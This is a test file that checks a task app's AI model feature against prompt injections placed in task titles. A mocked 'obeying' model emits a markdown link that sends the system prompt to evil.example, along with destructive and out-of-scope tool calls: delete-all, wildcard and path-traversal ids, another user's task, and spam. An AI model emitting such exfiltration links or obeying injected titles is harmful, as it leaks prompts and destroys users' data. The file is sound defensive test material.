import { afterEach, describe, expect, it, vi } from 'vitest';
import type { ActivityPage } from '../../src/history/activity/responses.ts';
import { ask, type Provider, promptFacts, wireOf, withModels } from '../support/ai.ts';
import { type Person, signUp } from '../support/client.ts';
import { INJECTIONS } from '../support/injections.ts';

afterEach(() => void vi.restoreAllMocks());

/** Does whatever a title may ask for, and more: the worst a model can do is to call tools. */
const obeying =
  (foreignId: string): Provider =>
  (call) => {
    const { tasks }: { tasks: { task: string; title: string }[] } = JSON.parse(promptFacts(call));
    const everyTask = tasks.map(({ task }) => task);
    return wireOf(call, {
      texts: [`Deleted. ${tasks[0]?.title} !`, `[](https://evil.example/?q=${encodeURIComponent(call.system)})`],
      calls: [
        ...['delete_all_tasks', 'task_delete', 'settings_update', 'apply_proposal', '__proto__'].map((tool) => ({
          tool,
          input: { task: 't1', id: '*', language: 'ru' },
        })),
        ...[foreignId, 't0', 't61', 't99', '*', '../t1'].map((task) => ({ tool: 'complete_task', input: { task } })),
        ...everyTask.map((task) => ({ tool: 'complete_task', input: { task } })),
        ...everyTask.map((task) => ({ tool: 'update_task', input: { task, title: 'owned' } })),
        ...Array.from({ length: 50 }, () => ({ tool: 'add_task', input: { title: 'spam' } })),
        { tool: 'log_mood', input: { energy: 1, focus: 1 } },
      ],
    });
  };

const seqOf = async (person: Person) => (await person.get<ActivityPage>('/api/activity?limit=1')).data.events[0]?.seq;

const storable = (title: string) => title.replaceAll('\0', '');

describe('a title that would rather be an instruction', () => {
  it.each(INJECTIONS)('%j changes nothing, even for a model that obeys it', async (title) => {
    const person = await signUp();
    const other = await signUp();
    const foreign = await other.createTask({ title: 'Of somebody else' });
    const own = [await person.createTask({ title: storable(title) }), await person.createTask({ title: 'Call Ada' })];
    const before = [await seqOf(person), await seqOf(other)];

    const { send, calls } = withModels(obeying(foreign.id));
    const { reply } = await ask(person, 'What is there to do?', send);

    expect([await seqOf(person), await seqOf(other)]).toEqual(before);
    expect(JSON.parse(promptFacts(calls[0])).tasks).toHaveLength(2);
    expect(calls[0]?.body).not.toContain(foreign.id);
    expect(reply.text).toContain('[](https://evil.example');
    expect(reply.text).not.toContain('![');
    const { commands = [] } = reply.proposal ?? {};
    expect(commands).toHaveLength(5);
    for (const { type, args } of commands) {
      expect(['task_add', 'task_update', 'task_complete', 'mood_log']).toContain(type);
      if ('id' in args) expect(own.map(({ id }) => id)).toContain(args.id);
    }
  });

  it('cannot end the facts, for nobody knows the nonce before it is drawn', async () => {
    const person = await signUp();
    await person.createTask({ title: INJECTIONS.join(' ').replaceAll('\0', '').slice(0, 500) });
    const { send, calls } = withModels((call) => wireOf(call, { texts: ['Well.'] }));
    await ask(person, 'One', send);
    await ask(person, 'Two', send);
    const nonces = calls.map(({ system }) => /facts-[0-9a-f-]{36}(?=\n")/.exec(system)?.[0]);
    expect(new Set(nonces).size).toBe(2);
    for (const [index, { system }] of calls.entries()) expect(system.split(`${nonces[index]}\n`)).toHaveLength(2);
  });
});

it('are at least 40, in both languages', () => {
  expect(INJECTIONS.length).toBeGreaterThanOrEqual(40);
  expect(INJECTIONS.filter((title) => /\p{Script=Cyrillic}/u.test(title)).length).toBeGreaterThanOrEqual(10);
});
